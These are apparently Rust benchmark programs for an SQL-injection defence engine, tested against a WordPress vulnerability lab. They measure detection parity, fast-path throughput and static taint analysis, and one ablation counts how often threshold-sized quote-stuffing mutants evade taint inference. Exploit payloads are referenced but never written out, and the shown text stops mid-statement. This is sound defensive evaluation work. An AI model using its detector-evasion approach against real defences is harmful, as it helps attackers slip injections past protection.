use std::time::Duration;

/// Engine shard count for the throughput cells (above the largest thread
/// count so workers never share a shard).
const SHARDS: usize = 16;

#[derive(Debug)]
struct Args {
    requests: usize,
    repeat: usize,
    threads: Vec<usize>,
    pipe_latency: Duration,
    out: String,
}

fn parse_args() -> Args {
    let mut args = Args {
        requests: 96,
        repeat: 2,
        threads: vec![1, 4],
        pipe_latency: Duration::from_micros(400),
        out: "results/BENCH_querymodel.json".to_string(),
    };
    let mut it = std::env::args().skip(1);
    while let Some(flag) = it.next() {
        let mut value = || it.next().unwrap_or_else(|| panic!("{flag} needs a value"));
        match flag.as_str() {
            "--requests" => args.requests = value().parse().expect("--requests"),
            "--repeat" => args.repeat = value().parse().expect("--repeat"),
            "--threads" => {
                args.threads = value().split(',').map(|t| t.parse().expect("--threads")).collect();
            }
            "--pipe-latency-us" => {
                args.pipe_latency =
                    Duration::from_micros(value().parse().expect("--pipe-latency-us"));
            }
            "--out" => args.out = value(),
            other => panic!("unknown flag {other}"),
        }
    }
    args
}

fn scaled_config(pipe_latency: Duration) -> JozaConfig {
    let mut cfg = JozaConfig::optimized();
    cfg.shards = SHARDS;
    cfg.pti.pipe_latency = pipe_latency;
    cfg
}

/// Aggregate model coverage over every route, scored against the lab's
/// ground-truth completeness labels.
#[derive(Debug, Default)]
struct Coverage {
    routes: usize,
    complete_routes: usize,
    sites: usize,
    modeled_sites: usize,
    compiled: usize,
    rejected: usize,
    ground_truth_mismatches: usize,
}

fn coverage(lab: &Lab) -> Coverage {
    let models = app_query_models(&lab.server.app);
    let mut cov = Coverage::default();
    for (route, expected_complete) in model_ground_truth(lab) {
        let m = models.get(&route).unwrap_or_else(|| panic!("no model for route {route}"));
        cov.routes += 1;
        cov.complete_routes += usize::from(m.complete);
        cov.sites += m.sites;
        cov.modeled_sites += m.modeled_sites;
        cov.compiled += m.compiled;
        cov.rejected += m.rejected;
        if m.complete != expected_complete {
            cov.ground_truth_mismatches += 1;
            eprintln!(
                "coverage: route {route} inferred complete={}, ground truth {}",
                m.complete, expected_complete
            );
        }
    }
    cov
}

fn benign_requests(lab: &Lab) -> Vec<HttpRequest> {
    let mut reqs = vec![HttpRequest::get("index")];
    for p in 1..=5 {
        reqs.push(HttpRequest::get("single-post").param("p", &p.to_string()));
    }
    reqs.push(HttpRequest::get("search").param("s", "lorem"));
    reqs.push(
        HttpRequest::post("post-comment")
            .param("comment_post_ID", "2")
            .param("author", "alice")
            .param("comment", "nice post"),
    );
    for p in lab.plugins.iter().chain(lab.cms_cases.iter()) {
        reqs.push(request_for(p, &p.benign_value));
    }
    reqs
}

fn attack_requests(lab: &Lab) -> Vec<HttpRequest> {
    lab.plugins
        .iter()
        .chain(lab.cms_cases.iter())
        .map(|p| request_for(p, p.exploit.primary_payload()))
        .collect()
}

/// Verdict parity + fast-path accounting over the full corpus.
#[derive(Debug, Default)]
struct Parity {
    benign_requests: usize,
    attack_requests: usize,
    verdict_deltas: usize,
    benign_queries: u64,
    benign_fast_hits: u64,
    attack_fast_hits: u64,
}

impl Parity {
    fn benign_fast_rate(&self) -> f64 {
        if self.benign_queries == 0 {
            return 0.0;
        }
        self.benign_fast_hits as f64 / self.benign_queries as f64
    }
}

fn parity(lab: &mut Lab) -> Parity {
    let models = app_query_models(&lab.server.app);
    let baseline = Joza::install(&lab.server.app, JozaConfig::optimized());
    let modeled = Joza::install_with_models(&lab.server.app, JozaConfig::optimized(), models);
    let mut out = Parity::default();

    let run = |req: &HttpRequest, lab: &mut Lab| -> (bool, bool) {
        lab.reset_database();
        let off = lab.server.handle_with(req, &baseline);
        lab.reset_database();
        let on = lab.server.handle_with(req, &modeled);
        (off.blocked, on.blocked)
    };

    for req in &benign_requests(lab) {
        let before = modeled.stats();
        let (off, on) = run(req, lab);
        let after = modeled.stats();
        out.benign_requests += 1;
        out.benign_queries += after.queries - before.queries;
        out.benign_fast_hits += after.model_fast_hits - before.model_fast_hits;
        if on != off {
            out.verdict_deltas += 1;
            eprintln!("parity: benign verdict delta on {req:?}");
        }
    }
    for req in &attack_requests(lab) {
        let before = modeled.stats().model_fast_hits;
        let (off, on) = run(req, lab);
        let after = modeled.stats().model_fast_hits;
        out.attack_requests += 1;
        out.attack_fast_hits += after - before;
        if on != off {
            out.verdict_deltas += 1;
            eprintln!("parity: attack verdict delta on {req:?}");
        }
    }
    out
}

/// One throughput cell: model-off vs model-on at a thread count.
#[derive(Debug)]
struct Cell {
    threads: usize,
    off_qps: f64,
    on_qps: f64,
    fast_rate: f64,
}

fn throughput(lab: &Lab, args: &Args) -> Vec<Cell> {
    let workload = |pass: usize| joza_bench::workload::write_requests_pass(args.requests, pass);
    let measure = |factory: &Joza, threads: usize| -> (f64, f64) {
        let _ = serve_parallel(build_lab, factory, threads, &workload(0));
        let base = factory.stats();
        let mut wall = Duration::ZERO;
        let mut queries = 0usize;
        for pass in 1..=args.repeat.max(1) {
            let reqs = workload(pass);
            let run = serve_parallel(build_lab, factory, threads, &reqs);
            wall += run.wall;
            for resp in &run.responses {
                assert!(!resp.blocked, "benign comment workload was blocked");
                queries += resp.queries.len();
            }
        }
        let delta = factory.stats();
        let fast = (delta.model_fast_hits - base.model_fast_hits) as f64
            / (delta.queries - base.queries).max(1) as f64;
        let secs = wall.as_secs_f64();
        (if secs > 0.0 { queries as f64 / secs } else { 0.0 }, fast)
    };

    let mut cells = Vec::new();
    for &t in &args.threads {
        let off_engine = Joza::install(&lab.server.app, scaled_config(args.pipe_latency));
        let (off_qps, _) = measure(&off_engine, t);
        let on_engine = Joza::install_with_models(
            &lab.server.app,
            scaled_config(args.pipe_latency),
            app_query_models(&lab.server.app),
        );
        let (on_qps, fast_rate) = measure(&on_engine, t);
        cells.push(Cell { threads: t, off_qps, on_qps, fast_rate });
    }
    cells
}

fn main() {
    let args = parse_args();
    let mut lab = build_lab();
    println!(
        "querymodel: {} requests x {} passes, threads {:?}, pipe latency {:?}",
        args.requests, args.repeat, args.threads, args.pipe_latency
    );

    let cov = coverage(&lab);
    println!(
        "\n== model coverage ==\n{}",
        render_table(
            &["Routes", "Complete", "Sites", "Modeled", "Compiled", "Rejected", "GT mismatches"],
            &[vec![
                cov.routes.to_string(),
                cov.complete_routes.to_string(),
                cov.sites.to_string(),
                cov.modeled_sites.to_string(),
                cov.compiled.to_string(),
                cov.rejected.to_string(),
                cov.ground_truth_mismatches.to_string(),
            ]],
        )
    );
    assert_eq!(cov.ground_truth_mismatches, 0, "model completeness diverged from ground truth");

    let par = parity(&mut lab);
    println!(
        "== verdict parity ==\n{}",
        render_table(
            &[
                "Benign reqs",
                "Attack reqs",
                "Verdict deltas",
                "Benign fast rate",
                "Attack fast hits"
            ],
            &[vec![
                par.benign_requests.to_string(),
                par.attack_requests.to_string(),
                par.verdict_deltas.to_string(),
                pct(par.benign_fast_rate()),
                par.attack_fast_hits.to_string(),
            ]],
        )
    );
    assert_eq!(par.verdict_deltas, 0, "models changed a blocking verdict");
    assert_eq!(par.attack_fast_hits, 0, "an attack query rode the fast path");
    assert!(
        par.benign_fast_rate() >= 0.5,
        "benign fast-path rate {} below 50%",
        pct(par.benign_fast_rate())
    );

    let cells = throughput(&lab, &args);
    let rows: Vec<Vec<String>> = cells
        .iter()
        .map(|c| {
            vec![
                c.threads.to_string(),
                format!("{:.1}", c.off_qps),
                format!("{:.1}", c.on_qps),
                format!("{:.2}x", if c.off_qps > 0.0 { c.on_qps / c.off_qps } else { 0.0 }),
                pct(c.fast_rate),
            ]
        })
        .collect();
    println!(
        "== gate throughput (fresh-content comment posts) ==\n{}",
        render_table(
            &["Threads", "Model-off q/s", "Model-on q/s", "Improvement", "Fast rate"],
            &rows
        )
    );

    let json_cells = cells
        .iter()
        .map(|c| {
            format!(
                "      {{\"threads\": {}, \"model_off_qps\": {:.1}, \"model_on_qps\": {:.1}, \
                 \"improvement\": {:.3}, \"fast_rate\": {:.4}}}",
                c.threads,
                c.off_qps,
                c.on_qps,
                if c.off_qps > 0.0 { c.on_qps / c.off_qps } else { 0.0 },
                c.fast_rate
            )
        })
        .collect::<Vec<_>>()
        .join(",\n");
    let json = format!(
        "{{\n  \"benchmark\": \"querymodel\",\n  \"provenance\": {},\n  \
         \"coverage\": {{\"routes\": {}, \"complete_routes\": {}, \"sites\": {}, \
         \"modeled_sites\": {}, \"compiled_templates\": {}, \"rejected_templates\": {}, \
         \"ground_truth_mismatches\": {}}},\n  \
         \"parity\": {{\"benign_requests\": {}, \"attack_requests\": {}, \"verdict_deltas\": {}, \
         \"benign_queries\": {}, \"benign_fast_hits\": {}, \"benign_fast_rate\": {:.4}, \
         \"attack_fast_hits\": {}}},\n  \
         \"throughput\": {{\"workload\": \"fresh-content comment posts\", \"requests_per_pass\": {}, \
         \"passes\": {}, \"pipe_latency_us\": {}, \"cells\": [\n{}\n    ]}}\n}}\n",
        provenance_json(&MatchKernel::default().to_string()),
        cov.routes,
        cov.complete_routes,
        cov.sites,
        cov.modeled_sites,
        cov.compiled,
        cov.rejected,
        cov.ground_truth_mismatches,
        par.benign_requests,
        par.attack_requests,
        par.verdict_deltas,
        par.benign_queries,
        par.benign_fast_hits,
        par.benign_fast_rate(),
        par.attack_fast_hits,
        args.requests,
        args.repeat,
        args.pipe_latency.as_micros(),
        json_cells
    );
    if let Some(dir) = std::path::Path::new(&args.out).parent() {
        std::fs::create_dir_all(dir).expect("create output directory");
    }
    std::fs::write(&args.out, &json).expect("write querymodel results");
    println!("wrote {}", args.out);
}
