//! Ablation: NTI threshold sensitivity (§III-A).
//!
//! "Setting the threshold value too high yields the inference of too many
//! taint markings, which causes false positives. On the other hand,
//! setting the threshold value too low yields too few taint markings,
//! which causes false negatives. Selecting an optimum threshold value for
//! an application or across a set of applications is not straightforward."
//!
//! For each threshold this sweep measures, NTI-only:
//!  * detection of the 53 original testbed exploits;
//!  * evasion rate of quote-stuffing/whitespace mutants *sized for that
//!    threshold* (the paper's point: evasion works at every threshold);
//!  * false positives on benign inputs that coincidentally resemble query
//!    structure (sort columns like `orders` vs the `ORDER` keyword).

use joza_bench::report::render_table;
use joza_core::{Joza, JozaConfig};
use joza_lab::nti_evasion::mutate_for_nti;
use joza_lab::verify::request_for;
use joza_lab::{build_lab, Lab};
use joza_nti::{NtiAnalyzer, NtiConfig};

fn detected(lab: &mut Lab, joza: &Joza, plugin: &joza_lab::VulnPlugin, payload: &str) -> bool {
    let resp = lab.server.handle_with(&request_for(plugin, payload), joza);
    resp.blocked || resp.executed < resp.queries.len()
}

/// Benign (input, query) pairs where the input *approximately* matches a
/// critical region of the query without ever flowing into it — the
/// false-positive fuel for loose thresholds. Each pair is annotated with
/// the edit distance / match length so the FP onset threshold is visible.
fn coincidental_benign() -> Vec<(&'static str, String)> {
    vec![
        // sort column `orders` vs the ORDER keyword: distance 1 over 5.
        ("orders", "SELECT id FROM wp_posts ORDER BY post_date DESC".to_string()),
        // `selects` vs SELECT: distance 1 over 6.
        ("selects", "SELECT id FROM wp_posts WHERE post_status = 'publish'".to_string()),
        // `groupe` (a user-supplied slug) vs GROUP: distance 1 over 5.
        ("groupe", "SELECT post_author FROM wp_posts GROUP BY post_author".to_string()),
        // `limite` vs LIMIT.
        ("limite", "SELECT id FROM wp_posts LIMIT 10".to_string()),
        // `wheres` vs WHERE.
        ("wheres", "SELECT id FROM wp_posts WHERE 1".to_string()),
        // `unionx` vs UNION in a legitimate two-part query.
        ("unionx", "SELECT a FROM t UNION SELECT a FROM u".to_string()),
    ]
}

fn main() {
    let mut lab = build_lab();
    let plugins = lab.plugins.clone();
    let cms = lab.cms_cases.clone();
    let all: Vec<_> = plugins.iter().chain(cms.iter()).cloned().collect();

    println!("ABLATION: NTI threshold sensitivity (NTI-only detection)\n");
    let mut rows = Vec::new();
    for threshold in [0.05, 0.10, 0.15, 0.20, 0.25, 0.30, 0.40] {
        let mut cfg = JozaConfig::nti_only();
        cfg.nti.threshold = threshold;
        let joza = Joza::install(&lab.server.app, cfg);

        let mut orig_detected = 0;
        let mut mutants_evaded = 0;
        for p in &all {
            if detected(&mut lab, &joza, p, p.exploit.primary_payload()) {
                orig_detected += 1;
            }
            let mutant = mutate_for_nti(p, threshold);
            if !detected(&mut lab, &joza, p, mutant.primary_payload()) {
                mutants_evaded += 1;
            }
        }

        // Analyzer-level false positives on coincidental benign inputs.
        let nti = NtiAnalyzer::new(NtiConfig { threshold, ..NtiConfig::default() });
        let fps = coincidental_benign()
            .iter()
            .filter(|(input, query)| nti.analyze(&[input], query).is_attack())
            .count();

        rows.push(vec![
            format!("{threshold:.2}"),
            format!("{orig_detected}/{}", all.len()),
            format!("{mutants_evaded}/{}", all.len()),
            format!("{fps}/{}", coincidental_benign().len()),
        ]);
    }
    println!(
        "{}",
        render_table(
            &[
                "Threshold",
                "Originals detected",
                "Sized mutants evading",
                "Coincidental-benign FPs"
            ],
            &rows
        )
    );
    println!("\nReading: mutants sized for the threshold evade at *every* setting (raising");
    println!("the threshold is not a remedy, §V-A), while loose thresholds start flagging");
    println!("benign near-keyword inputs — the no-good-setting dilemma of §III-A that");
    println!("motivates the hybrid.");
}
