//! Static taint-analysis report over the full WP-SQLI-LAB corpus.
//!
//! Runs `joza-sast` over every routable endpoint (4 WordPress core routes,
//! the 50 vulnerable plugins of Table IV, the 3 CMS case studies), scores
//! the verdicts against the testbed's ground-truth labels (TP/FP/FN/TN),
//! prints the deterministic source→sink findings, and finishes with a
//! throughput ablation: the plain Joza gate vs. `StaticFastPath<JozaGate>`
//! on benign core-route traffic, where statically-proven taint-free routes
//! skip NTI/PTI entirely.

use joza_bench::report::{pct, render_table};
use joza_bench::workload::{crawl_requests, Setup};
use joza_core::Joza;
use joza_lab::{build_lab, ground_truth};
use joza_sast::{
    analyze_app, render_summary, taint_free_routes, unparameterized_sink_lint, TaintSummary,
};
use std::collections::BTreeMap;
use std::time::Duration;

fn main() {
    let verbose = std::env::args().any(|a| a == "--findings");
    let mut lab = build_lab();

    println!("STATIC TAINT ANALYSIS over WP-SQLI-LAB ({} routes)\n", ground_truth(&lab).len());
    let summaries = analyze_app(&lab.server.app);
    let by_route: BTreeMap<&str, &TaintSummary> =
        summaries.iter().map(|s| (s.endpoint.as_str(), s)).collect();

    // --- Score verdicts against ground truth ---------------------------
    let (mut tp, mut fp, mut fneg, mut tn) = (0usize, 0usize, 0usize, 0usize);
    let mut rows = Vec::new();
    for (route, vulnerable) in ground_truth(&lab) {
        let summary =
            by_route.get(route.as_str()).unwrap_or_else(|| panic!("no analysis for route {route}"));
        let flagged = !summary.taint_free;
        let verdict = match (flagged, vulnerable) {
            (true, true) => {
                tp += 1;
                "TP"
            }
            (true, false) => {
                fp += 1;
                "FP"
            }
            (false, true) => {
                fneg += 1;
                "FN"
            }
            (false, false) => {
                tn += 1;
                "TN"
            }
        };
        let worst = summary
            .findings
            .iter()
            .map(|f| f.taint)
            .max()
            .map_or("-".to_string(), |t| t.label().to_string());
        rows.push(vec![
            route,
            if vulnerable { "vulnerable" } else { "clean" }.to_string(),
            if flagged { "flagged" } else { "taint-free" }.to_string(),
            verdict.to_string(),
            summary.sink_count.to_string(),
            summary.findings.len().to_string(),
            worst,
        ]);
    }
    println!(
        "{}",
        render_table(
            &[
                "Route",
                "Ground truth",
                "Static verdict",
                "Score",
                "Sinks",
                "Findings",
                "Worst taint"
            ],
            &rows
        )
    );
    let total = tp + fp + fneg + tn;
    println!(
        "totals: {total} routes | TP {tp}  FP {fp}  FN {fneg}  TN {tn} | recall {} | precision {}",
        pct(tp as f64 / (tp + fneg).max(1) as f64),
        pct(tp as f64 / (tp + fp).max(1) as f64),
    );
    assert_eq!(fneg, 0, "soundness: a vulnerable route was proven taint-free");

    // --- Findings detail ----------------------------------------------
    if verbose {
        println!("\nFINDINGS (deterministic order: endpoint, span, sink)\n");
        for s in &summaries {
            if !s.findings.is_empty() || s.parse_error.is_some() {
                print!("{}", render_summary(s));
            }
        }
    } else {
        let n: usize = summaries.iter().map(|s| s.findings.len()).sum();
        println!("({n} findings total; re-run with --findings for source→sink traces)");
    }

    // --- Unparameterized-sink lint: the manual-remediation worklist ----
    let lint = unparameterized_sink_lint(&lab.server.app);
    println!(
        "\nUNPARAMETERIZED SINKS ({} tainted sinks the hardening pass cannot repair)\n",
        lint.len()
    );
    if lint.is_empty() {
        println!("(none — every tainted sink sits in a completely-modeled route)");
    } else {
        let lint_rows: Vec<Vec<String>> = lint
            .iter()
            .map(|u| {
                vec![
                    u.route.clone(),
                    u.stmt_id.to_string(),
                    u.sink.clone(),
                    u.sources.join(", "),
                    u.dirty_cell.as_ref().map_or("-".to_string(), |(t, c)| format!("{t}.{c}")),
                ]
            })
            .collect();
        println!(
            "{}",
            render_table(&["Route", "Stmt", "Sink", "Tainted sources", "Dirty cell"], &lint_rows)
        );
    }

    // --- Persistence-aware store/load fixpoint -------------------------
    let flow = joza_sast::analyze_store_flow(&lab.server.app);
    let second_order = flow.second_order_routes();
    println!(
        "\nSTORE/LOAD FIXPOINT ({} dirty cells, {} second-order routes, {} rounds{})\n",
        flow.dirty.len(),
        second_order.len(),
        flow.iterations,
        if flow.top_poisoned {
            format!(", top-poisoned by {:?}", flow.poisoned_by)
        } else {
            String::new()
        }
    );
    let worklist = flow.remediation_worklist();
    let cell_rows: Vec<Vec<String>> = worklist
        .iter()
        .map(|e| {
            vec![
                format!("{}.{}", e.cell.0, e.cell.1),
                e.writers
                    .iter()
                    .map(|w| format!("{}:{}", w.route, w.line))
                    .collect::<Vec<_>>()
                    .join(", "),
                e.readers.join(", "),
            ]
        })
        .collect();
    if cell_rows.is_empty() {
        println!("(no attacker-reachable cells)");
    } else {
        println!(
            "{}",
            render_table(&["Cell", "Tainted writers", "Second-order readers"], &cell_rows)
        );
    }
    for route in &second_order {
        if let Some(rf) = flow.get(route) {
            for chain in rf.chains.iter().take(1) {
                println!("  {}", chain.render());
            }
        }
    }

    // --- Throughput ablation: fast path on benign core-route reads -----
    let fast_routes = taint_free_routes(&lab.server.app);
    println!(
        "\nFAST-PATH ABLATION (benign core-route crawl, {} taint-free routes)\n",
        fast_routes.len()
    );
    let n_requests = std::env::args().skip(1).find_map(|a| a.parse::<usize>().ok()).unwrap_or(120);
    let requests = crawl_requests(n_requests);
    let config = Setup::ExtensionEstimate.joza_config();

    let joza_plain = Joza::install(&lab.server.app, config.clone());
    let mut plain_gate_time = Duration::ZERO;
    for req in &requests {
        let resp = lab.server.handle_with(req, &joza_plain);
        assert!(!resp.blocked, "benign request blocked: {req:?}");
        plain_gate_time += resp.gate_time;
    }

    lab.reset_database();
    let joza_fast = Joza::installer(&lab.server.app, config)
        .taint_free_routes(fast_routes.iter().cloned())
        .build();
    let mut fast_gate_time = Duration::ZERO;
    for req in &requests {
        let resp = lab.server.handle_with(req, &joza_fast);
        assert!(!resp.blocked, "benign request blocked on fast path: {req:?}");
        fast_gate_time += resp.gate_time;
    }
    let stats = joza_fast.stats();

    println!(
        "{}",
        render_table(
            &["Gate", "Requests", "Gate time", "Fast queries", "Dynamic queries"],
            &[
                vec![
                    "Joza (dynamic only)".into(),
                    requests.len().to_string(),
                    format!("{plain_gate_time:?}"),
                    "0".into(),
                    "all".into(),
                ],
                vec![
                    "Joza + static fast path".into(),
                    requests.len().to_string(),
                    format!("{fast_gate_time:?}"),
                    stats.static_hits.to_string(),
                    (stats.queries - stats.static_hits).to_string(),
                ],
            ]
        )
    );
    println!(
        "fast path served {}/{} queries statically; gate time {} of dynamic-only",
        stats.static_hits,
        stats.queries,
        pct(fast_gate_time.as_secs_f64() / plain_gate_time.as_secs_f64().max(f64::EPSILON)),
    );
}
