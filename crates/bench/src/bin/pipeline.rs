//! Staged-pipeline benchmark in two sections:
//!
//! 1. **End-to-end serving** — checked-queries/sec with the full
//!    `CheckPipeline` live behind the PHP-simulator web server, against a
//!    dynamic-only baseline. This number includes the interpreter's
//!    tree-walk cost and is comparable with
//!    `results/BENCH_querymodel.json`'s `model_on_qps`.
//! 2. **Gate-direct replay** — the same workload's SQL stream captured
//!    once from an unprotected run and replayed straight into
//!    `JozaSession::check_batch`, so the cell measures the *gate itself*
//!    (lexing, skeleton interning, automaton matching, NTI/PTI when a
//!    query falls through) with no application simulator in the loop.
//!    This is the number the allocation-free hot-path work targets; the
//!    per-request PTI daemon-spawn accounting of the serving front-end
//!    is outside the measured region, the per-query pipe latency of
//!    PTI-bound queries is inside it.
//!
//! Both sections share one engine build per thread count, and the
//! per-stage latency/hit breakdown is reported for the single-thread
//! gate-direct pass (the least-diluted view of stage cost).
//!
//! Usage:
//!
//! ```text
//! pipeline [--requests N] [--repeat R] [--threads 1,4]
//!          [--pipe-latency-us US] [--min-qps F]
//!          [--out results/BENCH_pipeline.json]
//! ```
//!
//! `--min-qps F` makes the run fail (exit 1) if the single-thread
//! gate-direct pipeline throughput lands below `F` checked-q/s — the
//! CI smoke floor against hot-path regressions.

use joza_bench::report::{
    pct, provenance_json, render_table, stage_breakdown_json, stage_breakdown_rows,
};
use joza_core::{Joza, JozaConfig, JozaStats, MatchKernel, QueryCheck, STAGE_COUNT};
use joza_lab::serve::serve_parallel;
use joza_lab::{build_lab, Lab};
use joza_sast::{app_query_models, taint_free_routes};
use joza_webapp::request::HttpRequest;
use std::time::{Duration, Instant};

/// Engine shard count for the throughput cells (above the largest thread
/// count so workers never share a shard).
const SHARDS: usize = 16;

#[derive(Debug)]
struct Args {
    requests: usize,
    repeat: usize,
    threads: Vec<usize>,
    pipe_latency: Duration,
    min_qps: f64,
    out: String,
}

fn parse_args() -> Args {
    let mut args = Args {
        requests: 96,
        repeat: 2,
        threads: vec![1, 4],
        pipe_latency: Duration::from_micros(400),
        min_qps: 0.0,
        out: "results/BENCH_pipeline.json".to_string(),
    };
    let mut it = std::env::args().skip(1);
    while let Some(flag) = it.next() {
        let mut value = || it.next().unwrap_or_else(|| panic!("{flag} needs a value"));
        match flag.as_str() {
            "--requests" => args.requests = value().parse().expect("--requests"),
            "--repeat" => args.repeat = value().parse().expect("--repeat"),
            "--threads" => {
                args.threads = value().split(',').map(|t| t.parse().expect("--threads")).collect();
            }
            "--pipe-latency-us" => {
                args.pipe_latency =
                    Duration::from_micros(value().parse().expect("--pipe-latency-us"));
            }
            "--min-qps" => args.min_qps = value().parse().expect("--min-qps"),
            "--out" => args.out = value(),
            other => panic!("unknown flag {other}"),
        }
    }
    args
}

fn scaled_config(pipe_latency: Duration) -> JozaConfig {
    let mut cfg = JozaConfig::optimized();
    cfg.shards = SHARDS;
    cfg.pti.pipe_latency = pipe_latency;
    cfg
}

/// The fully-loaded engine: every pipeline stage assembled (query models
/// for the model fast path, statically-proven routes for the static one).
fn full_engine(lab: &Lab, pipe_latency: Duration) -> Joza {
    Joza::installer(&lab.server.app, scaled_config(pipe_latency))
        .query_models(app_query_models(&lab.server.app))
        .taint_free_routes(taint_free_routes(&lab.server.app))
        .build()
}

/// Counter deltas between two stats snapshots (the measured passes only,
/// excluding warmup).
fn delta(before: &JozaStats, after: &JozaStats) -> JozaStats {
    let mut d = *after;
    d.queries = after.queries - before.queries;
    d.model_fast_hits = after.model_fast_hits - before.model_fast_hits;
    d.static_hits = after.static_hits - before.static_hits;
    d.full_checks = after.full_checks - before.full_checks;
    for i in 0..STAGE_COUNT {
        d.stage_runs[i] = after.stage_runs[i] - before.stage_runs[i];
        d.stage_hits[i] = after.stage_hits[i] - before.stage_hits[i];
        d.stage_ns[i] = after.stage_ns[i] - before.stage_ns[i];
    }
    d
}

/// One throughput cell: dynamic-only vs full pipeline at a thread count.
#[derive(Debug)]
struct Cell {
    threads: usize,
    dynamic_qps: f64,
    pipeline_qps: f64,
    fast_rate: f64,
}

/// One request of the captured SQL stream: the route it hit, the raw
/// inputs it carried, and every query the unprotected application issued
/// while serving it.
struct ReplayRequest {
    route: String,
    inputs: Vec<(String, String)>,
    checks: Vec<QueryCheck>,
}

/// Serves the workload once, unprotected, and captures the SQL stream
/// per request — the gate-direct replay corpus.
fn replay_corpus(requests: &[HttpRequest]) -> Vec<ReplayRequest> {
    let mut lab = build_lab();
    requests
        .iter()
        .map(|req| {
            let resp = lab.server.handle(req);
            assert!(!resp.queries.is_empty(), "corpus request issued no SQL: {}", req.path);
            ReplayRequest {
                route: req.path.clone(),
                inputs: req.all_inputs().into_iter().map(|(_, n, v)| (n, v)).collect(),
                checks: resp.queries.iter().map(QueryCheck::new).collect(),
            }
        })
        .collect()
}

/// Replays the corpus straight through per-route sessions on `threads`
/// workers (same interleaving discipline as `serve_parallel`), returning
/// the number of checked queries.
fn replay_once(joza: &Joza, corpus: &[ReplayRequest], threads: usize) -> usize {
    std::thread::scope(|s| {
        let handles: Vec<_> = (0..threads)
            .map(|w| {
                s.spawn(move || {
                    let mut n = 0usize;
                    for r in corpus.iter().skip(w).step_by(threads) {
                        let mut session = joza.session_for(&r.route);
                        for (name, value) in &r.inputs {
                            session.capture_input(name, value);
                        }
                        let verdicts = session.check_batch(&r.checks);
                        assert!(
                            verdicts.iter().all(joza_core::Verdict::is_safe),
                            "benign replay was flagged on route {}",
                            r.route
                        );
                        n += verdicts.len();
                    }
                    n
                })
            })
            .collect();
        handles.into_iter().map(|h| h.join().expect("replay worker panicked")).sum()
    })
}

/// Gate-direct throughput at a thread count: one warmup replay, then
/// `repeat` timed replays.
fn measure_replay(
    joza: &Joza,
    corpus: &[ReplayRequest],
    threads: usize,
    repeat: usize,
) -> (f64, JozaStats) {
    replay_once(joza, corpus, threads);
    let base = joza.stats();
    let started = Instant::now();
    let mut queries = 0usize;
    for _ in 0..repeat.max(1) {
        queries += replay_once(joza, corpus, threads);
    }
    let secs = started.elapsed().as_secs_f64();
    let d = delta(&base, &joza.stats());
    assert_eq!(d.queries, queries as u64, "stats delta must match replayed query count");
    (if secs > 0.0 { queries as f64 / secs } else { 0.0 }, d)
}

fn measure(factory: &Joza, threads: usize, args: &Args) -> (f64, JozaStats) {
    let workload = |pass: usize| joza_bench::workload::write_requests_pass(args.requests, pass);
    let _ = serve_parallel(build_lab, factory, threads, &workload(0));
    let base = factory.stats();
    let mut wall = Duration::ZERO;
    let mut queries = 0usize;
    for pass in 1..=args.repeat.max(1) {
        let reqs = workload(pass);
        let run = serve_parallel(build_lab, factory, threads, &reqs);
        wall += run.wall;
        for resp in &run.responses {
            assert!(!resp.blocked, "benign comment workload was blocked");
            queries += resp.queries.len();
        }
    }
    let d = delta(&base, &factory.stats());
    assert_eq!(
        d.model_fast_hits + d.static_hits + d.full_checks,
        d.queries,
        "path counters must partition checked queries"
    );
    let secs = wall.as_secs_f64();
    (if secs > 0.0 { queries as f64 / secs } else { 0.0 }, d)
}

fn main() {
    let args = parse_args();
    let lab = build_lab();
    println!(
        "pipeline: {} requests x {} passes, threads {:?}, pipe latency {:?}",
        args.requests, args.repeat, args.threads, args.pipe_latency
    );

    let corpus = replay_corpus(&joza_bench::workload::write_requests_pass(args.requests, 0));
    let corpus_queries: usize = corpus.iter().map(|r| r.checks.len()).sum();
    println!("replay corpus: {} requests, {} queries", corpus.len(), corpus_queries);

    let mut cells = Vec::new();
    let mut direct_cells = Vec::new();
    let mut direct_single: Option<(f64, JozaStats)> = None;
    for &t in &args.threads {
        let dynamic_only = Joza::install(&lab.server.app, scaled_config(args.pipe_latency));
        let (dynamic_qps, _) = measure(&dynamic_only, t, &args);
        let pipeline = full_engine(&lab, args.pipe_latency);
        let (pipeline_qps, _) = measure(&pipeline, t, &args);

        let (direct_dynamic_qps, _) = measure_replay(&dynamic_only, &corpus, t, args.repeat);
        let (direct_qps, direct_stats) = measure_replay(&pipeline, &corpus, t, args.repeat);
        let fast_rate = (direct_stats.model_fast_hits + direct_stats.static_hits) as f64
            / direct_stats.queries.max(1) as f64;
        if t == 1 {
            direct_single = Some((direct_qps, direct_stats));
        }
        cells.push(Cell { threads: t, dynamic_qps, pipeline_qps, fast_rate });
        direct_cells.push(Cell {
            threads: t,
            dynamic_qps: direct_dynamic_qps,
            pipeline_qps: direct_qps,
            fast_rate,
        });
    }

    let table = |cells: &[Cell]| {
        let rows: Vec<Vec<String>> = cells
            .iter()
            .map(|c| {
                vec![
                    c.threads.to_string(),
                    format!("{:.1}", c.dynamic_qps),
                    format!("{:.1}", c.pipeline_qps),
                    format!(
                        "{:.2}x",
                        if c.dynamic_qps > 0.0 { c.pipeline_qps / c.dynamic_qps } else { 0.0 }
                    ),
                    pct(c.fast_rate),
                ]
            })
            .collect();
        render_table(
            &["Threads", "Dynamic-only q/s", "Pipeline q/s", "Improvement", "Fast rate"],
            &rows,
        )
    };
    println!("\n== end-to-end serving (fresh-content comment posts) ==\n{}", table(&cells));
    println!(
        "== gate-direct replay (same SQL stream, no interpreter) ==\n{}",
        table(&direct_cells)
    );

    let (direct_qps_1t, stage_stats) = direct_single.unwrap_or_else(|| {
        panic!("thread list {:?} must include 1 for the breakdown", args.threads)
    });
    println!(
        "== per-stage breakdown (single-thread gate-direct, full pipeline) ==\n{}",
        render_table(
            &["Stage", "Runs", "Hits", "Hit rate", "Total", "Mean/run"],
            &stage_breakdown_rows(&stage_stats)
        )
    );

    let json_cells = |cells: &[Cell]| {
        cells
            .iter()
            .map(|c| {
                format!(
                    "      {{\"threads\": {}, \"dynamic_qps\": {:.1}, \"pipeline_qps\": {:.1}, \
                     \"improvement\": {:.3}, \"fast_rate\": {:.4}}}",
                    c.threads,
                    c.dynamic_qps,
                    c.pipeline_qps,
                    if c.dynamic_qps > 0.0 { c.pipeline_qps / c.dynamic_qps } else { 0.0 },
                    c.fast_rate
                )
            })
            .collect::<Vec<_>>()
            .join(",\n")
    };
    let json = format!(
        "{{\n  \"benchmark\": \"pipeline\",\n  \"provenance\": {},\n  \
